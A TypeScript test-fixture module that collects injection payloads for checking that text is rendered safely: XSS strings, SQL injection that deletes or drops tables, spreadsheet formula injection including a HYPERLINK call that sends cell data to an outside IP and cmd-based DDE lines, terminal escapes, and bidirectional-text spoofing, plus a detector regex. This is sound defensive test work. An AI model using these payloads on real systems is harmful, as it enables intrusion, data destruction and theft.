/** Calls the hook that the browser's pages have: a payload that runs is noticed. */
const RUN = 'globalThis.__ran?.(1)';

/** What would run in a page, in ways in which texts get into pages. */
const SCRIPTS = [
  `<script>${RUN}</script>`,
  `"><img src=x onerror="${RUN}">`,
  `'><svg onload=${RUN}>`,
  `<iframe srcdoc="<script>parent.__ran(1)</script>"></iframe>`,
  `javascript:${RUN}//`,
  `</title></style></textarea></script><script>${RUN}</script>`,
  `<a href="javascript:${RUN}">open</a>`,
  `<math><mtext><style><img src onerror=${RUN}></style>`,
  '{{constructor.constructor("return __ran(1)")()}}',
  `\${${RUN}}`,
];

/** What would be run by a database, a spreadsheet, a terminal. */
const COMMANDS = [
  `'; delete from profiles; --`,
  `' or '1'='1`,
  `$$; drop table timecard_headers; $$`,
  `\\'; truncate notifications; --`,
  `=HYPERLINK("http://203.0.113.9/?"&A1,"x")`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `+1+cmd|' /C calc'!A0`,
  `-2+3`,
  `＝1+1`,
  `\u001b[2J\u001b[31mred\u001b]8;;http://203.0.113.9\u0007link`,
];

/** What would be read otherwise than it stands there. */
const DECEPTIONS = [
  `in\u202egnp.exe`,
  `\u2066\u202etxet desrever\u2069 of`,
  `zero\u200bwidth\u2060here\ufeff`,
  `\u061c\u200f17:00\u200e`,
  `bell\u0007 back\u0008 space`,
  `שלום and مرحبا`,
];

export const PAYLOADS: readonly string[] = [...SCRIPTS, ...COMMANDS, ...DECEPTIONS];

/** Characters that nobody sees, or that turn the direction of others: on a page each is to be seen as what it is. Joiners that scripts and emoji need are none. */
// oxlint-disable-next-line no-control-regex -- these are what is looked for
export const UNSEEN = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200b\u200e\u200f\u2028-\u202e\u2060-\u2069\ufeff]/u;
